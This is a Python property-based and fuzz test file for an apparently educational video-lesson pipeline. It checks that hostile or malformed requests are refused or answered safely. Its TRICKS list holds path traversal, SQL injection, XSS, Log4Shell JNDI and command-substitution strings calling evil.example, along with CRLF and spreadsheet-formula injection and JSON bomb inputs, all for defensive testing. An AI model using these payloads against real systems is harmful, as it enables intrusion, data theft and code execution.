"""Any input is refused with a dead letter, or ends in a way that a student understands."""

from __future__ import annotations

import json
import time
import tracemalloc
from dataclasses import replace
from pathlib import Path

import apache_beam as beam
import pytest
import webvtt
from apache_beam.options.pipeline_options import PipelineOptions
from hypothesis import HealthCheck, given
from hypothesis import settings as profile
from hypothesis import strategies as st
from sqlalchemy import text

from beam_pipeline.graph import build
from tests.fuzz import targets
from tests.support.requests import fields
from tests.test_graph import endpoints, read
from vividly.execution.services import Services
from vividly.lesson.scripting.shipped import shipped_script
from vividly.lesson.video.captions import captions_vtt
from vividly.model.lesson import Narration, SpokenLine, Word
from vividly.model.request import MAX_MESSAGE_BYTES
from vividly.model.settings import Settings
from vividly.platform.ledger import queries

QUICK = profile(
    max_examples=300,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
TRICKS = (
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/null",
    "file:///etc/shadow",
    "'; DROP TABLE content_requests; --",
    "1' OR '1'='1' /*",
    "\\'); SELECT pg_sleep(10); --",
    "</speak><speak><audio src='http://evil.example/a.wav'/>",
    '<mark name="9"/><break time="999s"/>',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "{0} {1} {student_id} {__class__.__mro__}",
    "%s %n %x %(message)s %%",
    "${jndi:ldap://evil.example/a} $(id) `id`",
    "WEBVTT\n\n00:00.000 --> 99:00.000\ninjected",
    "line one\r\nSet-Cookie: a=b\r\n\r\n",
    "\x1b[2J\x1b[31mred\x07\x08\x7f",
    "abc\u202edcba\u202c \u2066x\u2069",
    "a\u200b\u200c\u200d\u2060\ufeffb",
    "Z\u0351\u036b\u0343a\u0327\u0318lgo\u0300" * 6,
    "👩‍👩‍👧‍👦🏳️‍🌈 👨🏿‍🚀",
    "ﷺ" * 20,
    "𝕗𝕒𝕟𝕔𝕪 ℌ𝔢𝔩𝔩𝔬",
    "١٢٣ 一二三 ๑๒๓",
    "=cmd|' /C calc'!A0",
    "null",
    "NaN",
    "true",
    "x" * 99,
    "\u00a0\u2003\u3000word",
)
MARKS = ("<script", "onerror", "<speak", "DROP TABLE", "-->", "\x1b", "\u202e", "${jndi")
"""What of these no lesson may say."""
_TEXT = st.one_of(
    st.sampled_from(TRICKS),
    st.text(max_size=120),
    st.binary(max_size=60).map(lambda b: b.decode("latin-1")),
)
_ANYTHING = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | _TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner),
    max_leaves=8,
)


# -- the parser -------------------------------------------------------------------------------


@QUICK
@given(st.binary(max_size=400))
def test_any_bytes_are_a_request_or_a_dead_letter(data: bytes) -> None:
    targets.request(data)
    targets.token(data)
    targets.attributes(data)


@QUICK
@given(
    st.dictionaries(
        st.sampled_from([*fields(), "language", "environment", "correlation_id", "more"]),
        _ANYTHING,
    )
)
def test_any_values_are_a_request_or_a_dead_letter(changes: dict[str, object]) -> None:
    targets.request(json.dumps({**fields(), **changes}).encode("utf-8", "surrogatepass"))


@QUICK
@given(_TEXT, _TEXT, _TEXT)
def test_any_text_in_a_valid_place_is_kept_or_refused(who: str, what: str, like: str) -> None:
    sent = fields(student_id=who, student_query=what, interest=like)
    parsed = targets.request(json.dumps(sent).encode())
    if parsed:
        assert (parsed.student_id, parsed.student_query) == (who, what.strip())


_VALID = json.dumps(fields())[:-1]
BOMBS: dict[str, bytes] = {
    "a hundred thousand brackets": b"[" * 100_000,
    "as many objects": b'{"a":' * 40_000,
    "closed as well": b"[" * 100_000 + b"]" * 100_000,
    "a number of 100,000 digits": f'{_VALID}, "n": {"9" * 100_000}}}'.encode(),
    "a number beyond all": f'{_VALID}, "grade_level": 1e400}}'.encode(),
    "a number that is none": f'{_VALID}, "grade_level": NaN}}'.encode(),
    "infinity": f'{_VALID}, "x": -Infinity}}'.encode(),
    "keys that come twice": f'{_VALID}, "student_id": "a", "student_id": "b"}}'.encode(),
    "half of a surrogate pair": f'{_VALID}, "interest": "\\ud83d"}}'.encode(),
    "halves in the wrong order": f'{_VALID}, "interest": "\\ude00\\ud83d"}}'.encode(),
    "a zero character": f'{_VALID}, "interest": "a\\u0000b"}}'.encode(),
    "UTF-16": json.dumps(fields()).encode("utf-16"),
    "UTF-32": json.dumps(fields()).encode("utf-32"),
    "a byte order mark": b"\xef\xbb\xbf" + json.dumps(fields()).encode(),
    "overlong UTF-8": json.dumps(fields()).encode().replace(b"/", b"\xc0\xaf") + b"\xc0\x80",
    "a boolean for a grade": f'{_VALID}, "grade_level": true}}'.encode(),
    "a string for a grade": f'{_VALID}, "grade_level": "10"}}'.encode(),
    "a grade with a point": f'{_VALID}, "grade_level": 9.0}}'.encode(),
    "a million spaces": b" " * 1_000_000,
    "too large": f'{_VALID}, "x": "{"a" * MAX_MESSAGE_BYTES}"}}'.encode(),
    "as large as may be": f'{_VALID}, "x": "{"a" * (MAX_MESSAGE_BYTES - 1000)}"}}'.encode(),
    "ten thousand modalities": json.dumps(fields(requested_modalities=["text"] * 10_000)).encode(),
    "ten thousand faults": json.dumps(fields(requested_modalities=["x"] * 10_000)).encode(),
    "a long question of one word": json.dumps(fields(student_query="a" * 500)).encode(),
}


@pytest.mark.parametrize("data", BOMBS.values(), ids=BOMBS.keys())
def test_bombs_are_small_and_soon_over(data: bytes) -> None:
    targets.request(b"{}")
    tracemalloc.start()
    began = time.process_time()
    targets.request(data)
    seconds, (_, peak) = time.process_time() - began, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert seconds < 2
    assert peak < 30_000_000


# -- results of text ----------------------------------------------------------------------------


@QUICK
@given(_TEXT)
def test_any_question_has_an_answer(asked: str) -> None:
    targets.question(asked.encode("utf-8", "surrogatepass"))


@QUICK
@given(_TEXT)
def test_any_text_can_be_said_or_holds_nothing_to_say(said: str) -> None:
    targets.ssml(said.encode("utf-8", "surrogatepass"))


@pytest.fixture(scope="module")
def hostile() -> list[dict[str, object]]:
    """Requests that are valid, and mean no good."""
    asked = []
    for trick in TRICKS:
        asked.append(fields(student_query=f"Explain gravity {trick}"[:500]))
        asked.append(fields(student_query="Explain gravity", interest=trick[:100].strip() or "x"))
        asked.append(fields(student_query="Explain gravity", student_id=trick[:100]))
    return [one for one in asked if targets.request(json.dumps(one).encode())]


def test_the_whole_text_path_takes_all_of_it(
    settings: Settings, services: Services, hostile: list[dict[str, object]], tmp_path: Path
) -> None:
    """Every one ends with an answer for a student; none leaves its place."""
    services.index_library()
    file = tmp_path / "requests.jsonl"
    file.write_bytes(b"".join(json.dumps(each).encode() + b"\n" for each in hostile))
    ends = endpoints(tmp_path, input_file=str(file))
    with beam.Pipeline(options=PipelineOptions(["--runner=FnApiRunner"])) as pipeline:
        build(pipeline, replace(settings, durable_retries="off"), ends, job="test")
    assert not Path(ends.dead_letters).exists() or read(ends.dead_letters) == []
    rows = queries.by_id(services.engine, [str(each["request_id"]) for each in hostile])
    assert len(rows) == len(hostile) > 80
    for each in hostile:
        row = rows[str(each["request_id"])]
        assert row["status"] in ("completed", "clarification_needed", "out_of_scope", "blocked")
        for column in ("student_id", "student_query", "interest"):
            wanted = str(each[column]).strip() if column == "student_query" else each[column]
            assert row[column] == wanted, "kept as it was sent"
        script = queries.script_text(services.engine, row["id"]) or ""
        for mark in (
            "<script",
            "onerror",
            "<speak",
            "DROP TABLE",
            "-->",
            "\x1b",
            "\u202e",
            "${jndi",
        ):
            assert mark not in script
    told = [json.loads(note["data"]) for note in read(ends.notifications)]
    assert {note["request_id"] for note in told} == rows.keys()
    with services.engine.connect() as connection:
        tables = connection.execute(text("SELECT count(*) FROM content_requests")).scalar()
    assert tables == len(hostile), "nothing was dropped"
    outside = [path for path in tmp_path.rglob("*") if path.suffix in (".mp4", ".wav")]
    assert outside == []


@pytest.mark.parametrize("trick", TRICKS)
def test_captions_of_hostile_words_are_captions_only(trick: str) -> None:
    words = tuple(
        Word(word, at, at + 0.4) for at, word in enumerate(["Gravity", *trick.split(), "pulls."])
    )
    end = float(len(words))
    narration = Narration("a.wav", 16_000, end, (0.0,), (SpokenLine(0, 0, 0.0, end, words),), "v")
    found = captions_vtt(shipped_script("gravity", grade_level=9, interest=None), narration)
    cues = webvtt.from_string(found).captions
    assert 1 <= len(cues) <= len(words)
    assert cues[-1].end_in_seconds <= end + 5
    assert "<script" not in found
    assert "<img" not in found
